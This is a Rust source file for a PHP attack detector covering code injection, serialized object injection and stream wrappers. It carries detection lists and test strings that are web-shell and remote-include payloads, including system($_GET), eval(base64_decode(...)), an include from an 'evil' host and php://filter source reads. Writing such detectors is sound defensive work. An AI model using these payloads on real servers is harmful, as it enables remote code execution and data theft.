//! PHP: code injection, object injection and dangerous stream wrappers.
//!
//! - **Code injection** is judged on tokens (`lexer`): a call of a
//!   code- or command-executing function (`system`, `exec`, `shell_exec`,
//!   `passthru`, `popen`, `proc_open`, `pcntl_exec`, `eval`, `assert`,
//!   `create_function`) whose first argument is a variable, a string, a
//!   backtick command or a decoding call (`base64_decode(…)`, `gzinflate`,
//!   `str_rot13`, …); callbacks named by string (`call_user_func('system',…)`);
//!   `include`/`require` of a URL, a wrapper or request data; `preg_replace`
//!   with the `/e` modifier; variable functions (`$_GET['f'](…)`, `$f($x)`);
//!   the backtick operator after an open tag or a statement boundary;
//!   `phpinfo()`. Method calls (`->exec(`, `.exec(` after a call) and
//!   function definitions are not calls of the built-ins. An open tag alone
//!   (`<?php echo $x; ?>`) is a weak signal.
//! - **Object injection**: `O:<len>:"<Class>":<n>:{` and `C:…` serialized
//!   objects with a class name of exactly the declared length; a serialized
//!   array without objects is weak.
//! - **Wrappers**: `php://filter`, `php://input`, `phar://`, `expect://`,
//!   `data://text/plain`, `zip://`, `compress.zlib://`, `glob://`, ….
//!
//! # Limits
//! Linear time; no allocation on a clean value; the token scan runs only
//! on values holding `$`, `<?` or one of the judged function names (one
//! case-insensitive search); at most `MAX_COLONS` `:`
//! positions are examined; serialized class names are at most
//! `MAX_CLASS_NAME` bytes; the token window holds 8 tokens; one hit per
//! category per view.

mod lexer;

use lexer::{Lexer, Tok, Token};

use crate::{Detector, DetectorKind, Hit, View};

/// Most `:` positions examined per view.
pub const MAX_COLONS: usize = 64;
/// Longest class name accepted in a serialized object.
pub const MAX_CLASS_NAME: usize = 256;

/// The PHP detector.
#[derive(Clone, Debug, Default)]
pub struct PhpDetector {}

impl Detector for PhpDetector {
    fn kind(&self) -> DetectorKind {
        DetectorKind::Php
    }

    fn detect(&self, view: &View<'_>, out: &mut Vec<Hit>) {
        let b = view.bytes();
        let m = view.classes().php();
        if m & COLON != 0 {
            colons(b, out);
        }
        // Every code shape needs a call, a backtick, a quoted include or a
        // tag, and names a variable, a tag or one of the functions judged.
        if m & CODE != 0 && may_be_code(b, m) {
            code(b, out);
        }
    }
}

/// What every [`code`] finding needs in the value besides a `$` (a
/// variable or `${`, which the byte-class pass sees): an open tag (`<?`,
/// which the backtick rule needs too), or the name of a function [`judge`]
/// looks for (a callback is named by an [`EXEC_FUNCS`] string,
/// `shell_exec`/`pcntl_exec` contain `exec`).
const CODE_NEEDLES: &[&str] = &[
    "<?",
    "system",
    "exec",
    "passthru",
    "popen",
    "proc_open",
    "eval",
    "assert",
    "create_function",
    "phpinfo",
    "preg_replace",
    "include",
    "require",
];

static CODE_FINDER: std::sync::LazyLock<crate::needles::CiNeedles> =
    std::sync::LazyLock::new(|| crate::needles::CiNeedles::new(CODE_NEEDLES));

/// Whether [`code`] can find anything in `b` (`m`: its byte classes): a
/// `$`, or one search instead of the token scan on values that are clearly
/// not PHP (SQL, prose with quotes).
fn may_be_code(b: &[u8], m: u8) -> bool {
    m & DOLLAR != 0 || CODE_FINDER.any_in(b)
}

const COLON: u8 = 1;
const CODE: u8 = 2;
const DOLLAR: u8 = 4;

/// One pass over the value tells which checks can match at all (one lane
/// of [`crate::classes::ByteClasses`]).
pub(crate) const BYTE_CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    t[b':' as usize] = COLON;
    t[b'(' as usize] = CODE;
    t[b'`' as usize] = CODE;
    t[b'\'' as usize] = CODE;
    t[b'"' as usize] = CODE;
    t[b'?' as usize] = CODE;
    t[b'$' as usize] = DOLLAR;
    t
};

// ---------------------------------------------------------------- wrappers

struct Wrapper {
    scheme: &'static [u8],
    /// Required text right after `scheme://` (case-insensitive), or empty.
    target: &'static [u8],
    confidence: f32,
    reason: &'static str,
}

const WRAPPERS: &[Wrapper] = &[
    Wrapper {
        scheme: b"php",
        target: b"filter",
        confidence: 0.9,
        reason: "php://filter wrapper: reads source files through filters",
    },
    Wrapper {
        scheme: b"php",
        target: b"input",
        confidence: 0.85,
        reason: "php://input wrapper: includes the request body",
    },
    Wrapper {
        scheme: b"php",
        target: b"",
        confidence: 0.7,
        reason: "php:// I/O stream wrapper",
    },
    Wrapper {
        scheme: b"phar",
        target: b"",
        confidence: 0.85,
        reason: "phar:// wrapper: deserializes archive metadata",
    },
    Wrapper {
        scheme: b"expect",
        target: b"",
        confidence: 0.9,
        reason: "expect:// wrapper: runs a command",
    },
    Wrapper {
        scheme: b"data",
        target: b"text/plain",
        confidence: 0.8,
        reason: "data://text/plain wrapper: includes inline code",
    },
    Wrapper {
        scheme: b"zip",
        target: b"",
        confidence: 0.6,
        reason: "zip:// wrapper: includes a file from an archive",
    },
    Wrapper {
        scheme: b"compress.zlib",
        target: b"",
        confidence: 0.6,
        reason: "compress.zlib:// wrapper",
    },
    Wrapper {
        scheme: b"compress.bzip2",
        target: b"",
        confidence: 0.6,
        reason: "compress.bzip2:// wrapper",
    },
    Wrapper {
        scheme: b"glob",
        target: b"",
        confidence: 0.6,
        reason: "glob:// wrapper: lists server files",
    },
];

fn starts_with_ci(b: &[u8], p: &[u8]) -> bool {
    b.len() >= p.len() && b[..p.len()].eq_ignore_ascii_case(p)
}

fn is_scheme_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'.' || c == b'+' || c == b'-'
}

/// Serialized objects and wrappers, found at `:`.
fn colons(b: &[u8], out: &mut Vec<Hit>) {
    let (mut wrapper_done, mut object_done) = (false, false);
    for (n, p) in memchr::memchr_iter(b':', b).enumerate() {
        if n >= MAX_COLONS || (wrapper_done && object_done) {
            break;
        }
        if !object_done && p >= 1 {
            if let Some(hit) = serialized(b, p) {
                object_done = hit.confidence >= 0.5;
                out.push(hit);
            }
        }
        if !wrapper_done {
            if let Some(hit) = wrapper(b, p) {
                wrapper_done = true;
                out.push(hit);
            }
        }
    }
}

fn wrapper(b: &[u8], colon: usize) -> Option<Hit> {
    let mut s = colon;
    while s > 0 && colon - s < 16 && is_scheme_char(b[s - 1]) {
        s -= 1;
    }
    if s > 0 && b[s - 1].is_ascii_alphanumeric() {
        return None;
    }
    let scheme = &b[s..colon];
    let rest = &b[colon + 1..];
    let (after, slashed) = match rest.strip_prefix(b"//") {
        Some(r) => (r, true),
        None => (rest, false),
    };
    let w = WRAPPERS
        .iter()
        .find(|w| w.scheme.eq_ignore_ascii_case(scheme) && starts_with_ci(after, w.target))?;
    // `data:text/plain;base64,…` works without slashes; the others need them.
    let ok = slashed || (w.scheme == b"data" && memchr::memmem::find(after, b";base64,").is_some());
    if !ok || (w.target.is_empty() && after.first().is_none_or(|c| c.is_ascii_whitespace())) {
        return None;
    }
    let end = b[colon..]
        .iter()
        .position(|c| c.is_ascii_whitespace() || *c == b'"' || *c == b'\'')
        .map_or(b.len(), |e| colon + e);
    Some(Hit {
        class: "php-wrapper",
        confidence: w.confidence,
        span: s..end,
        reason: w.reason.into(),
    })
}

/// Parses digits at `i`; returns (value, index after).
fn digits(b: &[u8], mut i: usize) -> Option<(usize, usize)> {
    let s = i;
    let mut v: usize = 0;
    while i < b.len() && b[i].is_ascii_digit() && i - s < 9 {
        v = v * 10 + (b[i] - b'0') as usize;
        i += 1;
    }
    (i > s).then_some((v, i))
}

/// `O:8:"stdClass":1:{` / `C:…` (strong) or `a:2:{i:` / `a:2:{s:` (weak) at `colon`.
fn serialized(b: &[u8], colon: usize) -> Option<Hit> {
    let tag = b[colon - 1];
    if colon >= 2 && (b[colon - 2].is_ascii_alphanumeric() || b[colon - 2] == b'_') {
        return None;
    }
    let start = colon - 1;
    match tag {
        b'O' | b'C' => {
            let mut i = colon + 1;
            if b.get(i) == Some(&b'+') {
                i += 1;
            }
            let (len, i) = digits(b, i)?;
            if len > MAX_CLASS_NAME || b.get(i..i + 2)? != b":\"" {
                return None;
            }
            let name = b.get(i + 2..i + 2 + len)?;
            let ok_name = !name.is_empty()
                && name
                    .iter()
                    .all(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'\\' || c >= 0x80);
            let j = i + 2 + len;
            if !ok_name || b.get(j..j + 2)? != b"\":" {
                return None;
            }
            let (_, k) = digits(b, j + 2)?;
            if b.get(k..k + 2)? != b":{" {
                return None;
            }
            Some(Hit {
                class: "php-object-injection",
                confidence: 0.9,
                span: start..k + 2,
                reason: "serialized PHP object: unserialize() would instantiate the class".into(),
            })
        }
        b'a' => {
            let (_, i) = digits(b, colon + 1)?;
            let tail = b.get(i..i + 4)?;
            if tail != b":{i:" && tail != b":{s:" {
                return None;
            }
            Some(Hit {
                class: "php-object-injection",
                confidence: 0.3,
                span: start..i + 2,
                reason: "serialized PHP array".into(),
            })
        }
        _ => None,
    }
}

// ------------------------------------------------------------------- code

/// Functions that execute code or commands from their first argument.
const EXEC_FUNCS: &[&[u8]] = &[
    b"system",
    b"exec",
    b"shell_exec",
    b"passthru",
    b"popen",
    b"proc_open",
    b"pcntl_exec",
    b"eval",
    b"assert",
    b"create_function",
];

/// Functions that decode an obfuscated payload.
const DECODERS: &[&[u8]] = &[
    b"base64_decode",
    b"gzinflate",
    b"gzuncompress",
    b"gzdecode",
    b"str_rot13",
    b"hex2bin",
    b"strrev",
    b"urldecode",
    b"rawurldecode",
    b"convert_uudecode",
    b"file_get_contents",
    b"chr",
];

/// Functions that call a callback named by a string argument.
const CALLBACK_CALLERS: &[&[u8]] = &[
    b"call_user_func",
    b"call_user_func_array",
    b"array_map",
    b"array_filter",
    b"array_walk",
    b"usort",
    b"uasort",
    b"uksort",
    b"register_shutdown_function",
    b"register_tick_function",
    b"forward_static_call",
];

const INCLUDES: &[&[u8]] = &[b"include", b"include_once", b"require", b"require_once"];

const SUPERGLOBALS: &[&[u8]] = &[
    b"$_GET",
    b"$_POST",
    b"$_REQUEST",
    b"$_COOKIE",
    b"$_SERVER",
    b"$_FILES",
    b"$_ENV",
    b"$GLOBALS",
    b"$HTTP_RAW_POST_DATA",
];

fn ci_in(set: &[&[u8]], w: &[u8]) -> bool {
    set.iter().any(|s| s.eq_ignore_ascii_case(w))
}

const WIN: usize = 8;

struct Window<'a> {
    b: &'a [u8],
    toks: [Token; WIN],
    n: usize,
}

impl<'a> Window<'a> {
    fn get(&self, back: usize) -> Option<Token> {
        (back < self.n.min(WIN)).then(|| self.toks[(self.n - 1 - back) % WIN])
    }
    fn kind(&self, back: usize) -> Option<Tok> {
        self.get(back).map(|t| t.tok)
    }
    fn text(&self, t: Token) -> &'a [u8] {
        &self.b[t.start..t.end]
    }
    fn word(&self, back: usize) -> &'a [u8] {
        self.get(back)
            .filter(|t| t.tok == Tok::Ident)
            .map_or(&[][..], |t| self.text(t))
    }
    /// String contents without the quotes.
    fn str_body(&self, t: Token) -> &'a [u8] {
        &self.b[t.start + 1..t.end.saturating_sub(1).max(t.start + 1)]
    }
}

/// Whether the identifier `back` places back is called as a plain function
/// (not a method, not a definition).
fn plain_call(w: &Window<'_>, back: usize) -> bool {
    match w.kind(back + 1) {
        Some(Tok::Member) => false,
        Some(Tok::Dot) => w.kind(back + 2) == Some(Tok::Str),
        Some(Tok::Ident) => !w.word(back + 1).eq_ignore_ascii_case(b"function"),
        _ => true,
    }
}

fn code(b: &[u8], out: &mut Vec<Hit>) {
    let empty = Token {
        tok: Tok::Other,
        start: 0,
        end: 0,
    };
    let mut w = Window {
        b,
        toks: [empty; WIN],
        n: 0,
    };
    let mut open_tag: Option<usize> = None;
    let mut best: Option<Hit> = None;
    for t in Lexer::new(b) {
        w.toks[w.n % WIN] = t;
        w.n += 1;
        if t.tok == Tok::OpenTag && open_tag.is_none() {
            open_tag = Some(t.start);
        }
        if let Some((back, confidence, reason)) = judge(&w, open_tag.is_some()) {
            let start = w.get(back).map_or(t.start, |s| s.start);
            let hit = Hit {
                class: "php-code",
                confidence,
                span: start..t.end,
                reason: reason.into(),
            };
            if best.as_ref().is_none_or(|h| h.confidence < hit.confidence) {
                best = Some(hit);
            }
            if confidence >= 0.9 {
                break;
            }
        }
    }
    match (best, open_tag) {
        (Some(mut h), Some(o)) => {
            h.confidence = (h.confidence + 0.05).min(1.0);
            h.span.start = h.span.start.min(o);
            out.push(h);
        }
        (Some(h), None) => out.push(h),
        (None, Some(o)) => out.push(Hit {
            class: "php-code",
            confidence: 0.3,
            span: o..b.len(),
            reason: "PHP open tag".into(),
        }),
        (None, None) => {}
    }
}

/// Judges the window ending at the newest token. Returns how many tokens
/// back the evidence starts, the confidence and the reason.
fn judge(w: &Window<'_>, in_php: bool) -> Option<(usize, f32, &'static str)> {
    let t0 = w.get(0)?;
    match (w.kind(2), w.kind(1), t0.tok) {
        // call_user_func('system', …) and friends
        (_, Some(Tok::LParen | Tok::Comma), Tok::Str) if ci_in(EXEC_FUNCS, w.str_body(t0)) => (2
            ..WIN - 1)
            .find(|&k| {
                w.kind(k) == Some(Tok::Ident)
                    && ci_in(CALLBACK_CALLERS, w.word(k))
                    && w.kind(k - 1) == Some(Tok::LParen)
            })
            .map(|k| (k, 0.9, "passes a code execution function as a callback")),
        // name ( arg
        (Some(Tok::Ident), Some(Tok::LParen), arg) => {
            let name = w.word(2);
            if !plain_call(w, 2) {
                return None;
            }
            if ci_in(EXEC_FUNCS, name) {
                let conf = match arg {
                    Tok::Var if ci_in(SUPERGLOBALS, w.text(t0)) => 0.95,
                    Tok::Var => 0.85,
                    Tok::Backtick => 0.9,
                    Tok::Str => 0.8,
                    Tok::Ident if ci_in(DECODERS, w.text(t0)) || ci_in(EXEC_FUNCS, w.text(t0)) => {
                        0.9
                    }
                    _ if matches!(w.kind(3), Some(Tok::At | Tok::DollarBrace)) => 0.85,
                    _ => return None,
                };
                return Some((2, conf, "calls a PHP code or command execution function"));
            }
            if name.eq_ignore_ascii_case(b"phpinfo") && arg == Tok::RParen {
                return Some((2, 0.7, "calls phpinfo()"));
            }
            if ci_in(INCLUDES, name) {
                return include_arg(w, t0)
                    .map(|c| (2, c, "includes remote, wrapped or request-supplied code"));
            }
            if name.eq_ignore_ascii_case(b"preg_replace")
                && arg == Tok::Str
                && e_modifier(w.str_body(t0))
            {
                return Some((2, 0.9, "preg_replace with the /e (evaluate) modifier"));
            }
            None
        }
        // include 'http://…'
        (_, Some(Tok::Ident), Tok::Str | Tok::Var) if ci_in(INCLUDES, w.word(1)) => {
            include_arg(w, t0).map(|c| (1, c, "includes remote, wrapped or request-supplied code"))
        }
        // $f( arg   /   $_GET['f']( arg
        (_, Some(Tok::LParen), arg @ (Tok::Var | Tok::Str)) => {
            let callee = w.get(2)?;
            match callee.tok {
                Tok::Var if w.kind(3) != Some(Tok::Member) => {
                    let sg = ci_in(SUPERGLOBALS, w.text(callee));
                    let conf = if sg {
                        0.9
                    } else if arg == Tok::Var {
                        0.55
                    } else {
                        0.5
                    };
                    Some((2, conf, "calls a variable function"))
                }
                Tok::RBrack => {
                    // $_GET['f']( : Var [ Str ] (
                    let var = w.get(5)?;
                    let shaped = w.kind(4) == Some(Tok::LBrack) && var.tok == Tok::Var;
                    (shaped && ci_in(SUPERGLOBALS, w.text(var))).then_some((
                        5,
                        0.9,
                        "calls a function named by request data",
                    ))
                }
                _ => None,
            }
        }
        (_, prev, Tok::Backtick) if t0.end - t0.start > 2 => {
            let stmt = matches!(prev, Some(Tok::OpenTag | Tok::Semi))
                || (in_php && matches!(prev, Some(Tok::Other)))
                || (prev == Some(Tok::Ident)
                    && (w.word(1).eq_ignore_ascii_case(b"echo")
                        || w.word(1).eq_ignore_ascii_case(b"print")));
            (stmt && in_php).then_some((0, 0.8, "PHP backtick operator runs a shell command"))
        }
        _ => None,
    }
}

/// Confidence of an include argument, if dangerous.
fn include_arg(w: &Window<'_>, t: Token) -> Option<f32> {
    match t.tok {
        Tok::Var if ci_in(SUPERGLOBALS, w.text(t)) => Some(0.9),
        Tok::Str => {
            let s = w.str_body(t);
            let wrapped = [
                &b"php:"[..],
                b"data:",
                b"phar:",
                b"expect:",
                b"zip:",
                b"http:",
                b"https:",
                b"ftp:",
            ]
            .iter()
            .any(|p| starts_with_ci(s, p));
            wrapped.then_some(0.85)
        }
        _ => None,
    }
}

/// Whether a regex literal `/…/flags` carries the `e` flag.
fn e_modifier(pat: &[u8]) -> bool {
    let Some(&d) = pat.first() else { return false };
    let close = match d {
        b'(' => b')',
        b'{' => b'}',
        b'[' => b']',
        b'<' => b'>',
        c if c.is_ascii_alphanumeric() || c == b'\\' || c.is_ascii_whitespace() => return false,
        c => c,
    };
    match memchr::memrchr(close, &pat[1..]) {
        Some(p) => {
            let flags = &pat[p + 2..];
            !flags.is_empty()
                && flags.iter().all(u8::is_ascii_alphabetic)
                && memchr::memchr(b'e', flags).is_some()
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn best(s: &str) -> f32 {
        let mut out = Vec::new();
        let input = crate::Input::new(s.as_bytes());
        PhpDetector::default().detect(&input.views()[0], &mut out);
        out.iter().map(|h| h.confidence).fold(0.0, f32::max)
    }

    #[test]
    fn code_prefilter_covers_every_judged_name() {
        let may = |b: &[u8]| may_be_code(b, crate::classes::ByteClasses::of(b).php());
        for name in EXEC_FUNCS.iter().chain(INCLUDES) {
            assert!(may(name), "{}", String::from_utf8_lossy(name));
            assert!(may(&name.to_ascii_uppercase()));
        }
        for s in [
            "phpinfo()",
            "preg_replace('/a/e', $x)",
            "$f(1)",
            "<?=`id`?>",
            "${x}",
        ] {
            assert!(may(s.as_bytes()), "{s}");
        }
        // SQL with calls and quotes is not looked at token by token.
        assert!(!may(b"1' and sleep(5) and 'a'='a"));
        assert_eq!(best("1' and sleep(5) and 'a'='a"), 0.0);
    }

    #[test]
    fn attacks() {
        for s in [
            "<?php system($_GET['c']); ?>",
            "1';system('id');//",
            "eval(base64_decode('ZWNobyAxOw=='))",
            "${@system(id)}",
            "<?= `id` ?>",
            "call_user_func('system', 'id')",
            "include 'http://evil/x.txt';",
            "preg_replace('/.*/e', 'system(\"id\")', '')",
            "$_GET['f']($_GET['a'])",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "a:1:{i:0;O:4:\"Evil\":0:{}}",
            "php://filter/convert.base64-encode/resource=index.php",
            "php://input",
            "phar:///tmp/x.phar/a",
            "data://text/plain;base64,PD9waHA=",
            "expect://id",
            "assert($_POST[x])",
        ] {
            assert!(best(s) >= 0.5, "{s}: {}", best(s));
        }
    }

    #[test]
    fn benign() {
        for s in [
            "<?php echo $x; ?>",
            "the system (see below) is down",
            "$obj->exec($sql)",
            "function system($x) {}",
            "a:b:c",
            "O:8 is the size",
            "type: system",
            "[\"user\",\"system\"]",
            "eval week",
            "price (USD): 12",
            "Runtime.getRuntime().exec(\"id\")",
        ] {
            assert!(best(s) < 0.5, "{s}: {}", best(s));
        }
    }

    #[test]
    fn e_flag() {
        assert!(e_modifier(b"/a/e"));
        assert!(e_modifier(b"#x#ie"));
        assert!(!e_modifier(b"/a/i"));
        assert!(!e_modifier(b"abc"));
    }
}
